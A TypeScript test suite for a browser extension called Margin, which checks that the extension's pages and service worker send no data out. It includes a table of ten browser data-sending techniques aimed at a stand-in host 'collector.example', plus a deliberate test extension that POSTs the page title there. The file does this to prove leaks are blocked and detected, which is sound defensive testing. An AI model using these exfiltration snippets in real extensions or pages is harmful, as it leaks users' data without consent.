import { type Page, TargetType } from 'puppeteer-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ChromiumMargin, launchChromium } from './driver/chromium'
import { storedEntries } from './driver/ledger'
import { until } from './driver/margin-browser'
import { type SiteServer, startServer } from './driver/server'
import { sitesOf, storySite } from './driver/sites'
import { outlier, practice } from './driver/stories'
import { temporaryExtension } from './driver/temporary-extension'
import { sentByPages } from './driver/traffic'
import * as trainer from './driver/trainer'

// L2: no request ever leaves the extension. The loopback server is the browser's only way out, so it sees whatever anyone sends.

const sites = { practice: storySite(practice), outlier: storySite(outlier) }
let server: SiteServer
let bare: ChromiumMargin
let margin: ChromiumMargin

beforeAll(async () => {
  server = await startServer(sitesOf(sites, [practice, outlier]))
  bare = await launchChromium({ proxyPort: server.port, bare: true })
  margin = await launchChromium({ proxyPort: server.port })
})
afterAll(async () => {
  await Promise.all([bare?.close(), margin?.close()])
  await server?.stop()
})

const taskIsOver = (page: Page, before: string) =>
  until('the next task of the page', async () => !(await page.evaluate(() => document.body.textContent ?? '')).includes(before))

/** Two tasks handed in and one skipped, on a page that loads anew and on one that changes in place. */
async function work(
  browser: ChromiumMargin,
  watch: (what: string, read: () => Promise<unknown>) => Promise<unknown>,
): Promise<void> {
  const [first = ''] = practice.ids
  const birds = await browser.open(practice.origin + practice.address(first))
  await Promise.all([birds.waitForNavigation(), trainer.press(birds, practice.start ?? '')])
  await watch('the clock', async () => (await browser.state(practice.origin)).session?.status === 'working')
  await trainer.work(birds, 'It says what to do.')
  await trainer.goNear(birds, practice.submit)
  await Promise.all([birds.waitForNavigation(), trainer.press(birds, practice.submit)])
  await Promise.all([birds.waitForNavigation(), trainer.press(birds, practice.skip ?? '')])
  const boats = await browser.open(outlier.origin + outlier.address(''))
  await watch('the clock', async () => (await browser.state(outlier.origin)).session?.status === 'working')
  await trainer.work(boats, 'It says why.')
  await trainer.press(boats, outlier.submit)
  await taskIsOver(boats, 'ladder')
  await watch('the entries', async () => (await storedEntries(browser)).length >= 3)
  await birds.close()
  await boats.close()
}

/** Opens every surface while work is live and uses it. */
async function useSurfaces(): Promise<void> {
  const task = await margin.open(practice.origin + practice.address(practice.ids[2] ?? ''))
  await margin.ask('session.start', { platform: 'practice', project: 'Bees', taskType: 'rating', workKind: 'task' })
  const panel = await margin.openSidePanel(task)
  await trainer.rubricShown(panel)
  await trainer.showTab(panel, 'checklist')
  await trainer.answer(panel, 0, 'done')
  await trainer.showTab(panel, 'notes')
  const popup = await margin.openSurface('popup')
  await trainer.figuresShown(popup)
  for (const name of ['options', 'welcome', 'practice', 'report', 'sidepanel'] as const)
    await (await margin.openSurface(name)).close()
  await popup.close()
  await task.close()
}

describe('a day with Margin (L2)', () => {
  it('sends what the same day sends without it, and nothing more', async () => {
    server.forget()
    await work(bare, async () => undefined)
    const plain = sentByPages(server.seen()).sort()
    for (const site of Object.values(sites)) site.reset()
    server.forget()
    await work(margin, (what, read) => until(what, async () => Boolean(await read())))
    expect(sentByPages(server.seen()).sort()).toEqual(plain)
    expect(plain).toContain('POST practice.localhost/~submit')
  })

  it('sends nothing from any surface', async () => {
    for (const site of Object.values(sites)) site.reset()
    server.forget()
    await useSurfaces()
    expect(sentByPages(server.seen())).toEqual([`GET practice.localhost${practice.address(practice.ids[2] ?? '')}`])
  })
})

/** Every way that a page of an extension has to send something; each gives true when it went out. Run inside the page. */
const WAYS: Record<string, string> = {
  fetch: `fetch(to, { mode: 'no-cors' }).then(() => true, () => false)`,
  XMLHttpRequest: `new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r(true); x.onerror = () => r(false); x.open('GET', to); x.send() })`,
  image: `new Promise((r) => { const i = new Image(); i.onload = () => r(true); i.onerror = () => r(false); i.src = to })`,
  WebSocket: `new Promise((r) => { try { const s = new WebSocket(to.replace('http', 'ws')); s.onopen = () => r(true); s.onerror = () => r(false) } catch { r(false) } })`,
  EventSource: `new Promise((r) => { const s = new EventSource(to); s.onopen = () => r(true); s.onerror = () => { s.close(); r(false) } })`,
  beacon: `(navigator.sendBeacon(to, 'x'), false)`,
  script: `new Promise((r) => { const s = document.createElement('script'); s.onload = () => r(true); s.onerror = () => r(false); s.src = to; document.head.append(s) })`,
  'style sheet': `new Promise((r) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => r(true); l.onerror = () => r(false); l.href = to; document.head.append(l) })`,
  frame: `new Promise((r) => { const f = document.createElement('iframe'); f.onload = () => r(false); f.src = to; document.body.append(f); setTimeout(() => r(false), 1000) })`,
  form: `(() => { const f = document.createElement('form'); f.action = to; f.target = '_blank'; document.body.append(f); f.submit(); return false })()`,
}
/** What was sent, once a page that is asked for now has come: whatever was sent before is here by then. */
async function sentUntilNow(): Promise<string[]> {
  const page = await margin.open(`${practice.origin}/queue`)
  await page.close()
  return sentByPages(server.seen())
}
const NOTHING = ['GET practice.localhost/queue']

const FROM_WORKER = ['fetch', 'WebSocket', 'EventSource']

describe('the policy of Margin’s own pages (L2)', () => {
  // One host that Margin may read and one that nobody serves.
  for (const host of ['http://practice.localhost', 'http://collector.example']) {
    it(`stops every way to ${host}`, async () => {
      const panel = await margin.openSurface('sidepanel')
      server.forget()
      for (const [name, way] of Object.entries(WAYS)) {
        const went = await panel.evaluate(`((to) => ${way})(${JSON.stringify(`${host}/told-by-${name.replace(' ', '-')}`)})`)
        expect(went, name).toBe(false)
      }
      expect(await sentUntilNow()).toEqual(NOTHING)
      await panel.close()
    })

    it(`stops the worker from reaching ${host}`, async () => {
      await margin.ask('state.get', {})
      const target = await margin.browser.waitForTarget((one) => one.type() === TargetType.SERVICE_WORKER)
      const worker = await target.worker()
      server.forget()
      for (const name of FROM_WORKER) {
        const way = WAYS[name]
        const went = await worker?.evaluate(`((to) => ${way})(${JSON.stringify(`${host}/told-by-worker-${name}`)})`)
        expect(went, name).toBe(false)
      }
      expect(await sentUntilNow()).toEqual(NOTHING)
    })
  }
})

describe('the check of the traffic sees a breach', () => {
  for (const to of ['http://practice.localhost/told', 'https://collector.example/told', 'http://collector.example/told']) {
    it(`of a content script that sends to ${to}`, async () => {
      const script = `fetch(${JSON.stringify(to)}, { mode: 'no-cors', method: 'POST', body: document.title }).catch(() => {})`
      const extension = await temporaryExtension(['http://practice.localhost/*'], script)
      const id = await bare.browser.installExtension(extension.dir)
      try {
        server.forget()
        const page = await bare.open(`${practice.origin}/queue`)
        const { hostname, protocol } = new URL(to)
        // Of a refused connection for https the server sees the host alone.
        const line = protocol === 'https:' ? `CONNECT ${hostname}` : `POST ${hostname}/told`
        await until('the breach to be seen', async () => sentByPages(server.seen()).includes(line))
        await page.close()
      } finally {
        await bare.browser.uninstallExtension(id)
        await extension.remove()
      }
    })
  }
})
